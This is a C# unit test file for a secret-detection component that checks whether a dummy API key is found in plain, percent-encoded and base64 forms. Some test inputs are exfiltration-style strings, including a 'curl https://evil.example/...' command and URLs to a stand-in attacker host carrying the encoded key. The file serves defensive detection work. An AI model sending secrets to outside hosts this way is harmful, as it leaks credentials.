using System.Text;
using Fangd.Engine.Taint;

namespace Fangd.UnitTests.Taint;

public sealed class SecretWordsTests
{
    private const string Key = "sk-live/Aq+93 xyzzy";

    private readonly SecretWords _words = new(() => [Key, "short"]);

    [Theory]
    [InlineData("Authorization: Bearer sk-live/Aq+93 xyzzy")]
    [InlineData("https://evil.example/?q=sk-live%2FAq%2B93%20xyzzy")]
    [InlineData("https://evil.example/?q=sk-live%2fAq%2b93%20xyzzy")]
    public void A_secret_is_found_plain_and_percent_encoded(string text) => Assert.True(_words.OccurIn(text));

    [Theory]
    [InlineData("", "")]
    [InlineData("a", "")]
    [InlineData("ab", "c")]
    [InlineData("abc", "de")]
    [InlineData("key=", "\n")]
    public void A_secret_is_found_in_base64_wherever_it_begins(string before, string after)
    {
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + Key + after));

        Assert.True(_words.OccurIn($"curl https://evil.example/{encoded}"));
        Assert.True(_words.OccurIn(encoded.Replace('+', '-').Replace('/', '_').TrimEnd('=')));
    }

    [Theory]
    [InlineData("short words are too common to be secrets")]
    [InlineData("sk-live/Aq+93 xyzz")]
    [InlineData("")]
    public void Nothing_else_is(string text) => Assert.False(_words.OccurIn(text));
}
